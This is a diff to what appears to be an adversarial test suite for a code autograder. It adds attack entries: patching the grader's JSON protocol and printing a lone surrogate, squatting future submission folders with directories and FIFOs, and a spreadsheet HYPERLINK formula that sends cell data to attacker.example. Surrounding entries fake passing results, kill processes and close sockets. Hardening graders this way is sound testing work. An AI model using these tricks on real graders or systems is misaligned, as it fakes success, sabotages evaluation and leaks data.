@@ -155,6 +155,14 @@ ATTACKS = [
         _SOCKETS + "for fd in list(_sockets()):\n    os.close(fd)\n",
     ),
     Attack(
+        "lone_surrogates_the_judge_cannot_encode",
+        "channel",
+        "import json, autograder.protocol as P\nclass _J:\n    loads = staticmethod(json.loads)\n"
+        "    dumps = staticmethod(lambda o, **k: json.dumps(o, **{**k, 'ensure_ascii': True}))\n"
+        "P.json = _J\nprint('\\ud800')\n",
+        answer="def answer():\n    raise AssertionError('\\udcff')\n",
+    ),
+    Attack(
         "print_text_that_looks_like_results",
         "channel",
         "import sys\nprint('✔ answer：可见测试 (visible tests) 通过。')\nprint('score 3 / 3')\n"
@@ -257,6 +265,13 @@ ATTACKS = [
         + "        except OSError:\n            pass\n    os._exit(0)\n",
     ),
     Attack(
+        "squat_the_next_submissions_folders",
+        "concurrency",
+        "import os\nfor n in range(1, 200):\n    for name in (f'r{n}', f'../r{n}', f'../../fatal-r{n}.txt'):\n"
+        "        try:\n            os.mkdir(name) if not name.endswith('.txt') else os.mkfifo(name)\n"
+        "        except OSError:\n            pass\n",
+    ),
+    Attack(
         "kill_every_process_it_can_see",
         "concurrency",
         "import os, signal\nfor pid in os.listdir('/proc'):\n    if pid.isdigit() and int(pid) != os.getpid():\n"
@@ -286,6 +301,11 @@ ATTACKS = [
         "    def __bool__(self):\n        return True\n    def __len__(self):\n        return 2\n",
         answer="def answer():\n    return Any()\n",
         other="def other():\n    return Any()\n",
+    ),
+    Attack(
+        "spreadsheet_formula_in_the_message",
+        "values",
+        answer='def answer():\n    raise AssertionError(\'=HYPERLINK("http://attacker.example/?"&A1, "see details")\')\n',
     ),
     Attack(
         "wrongly_typed_return_values",
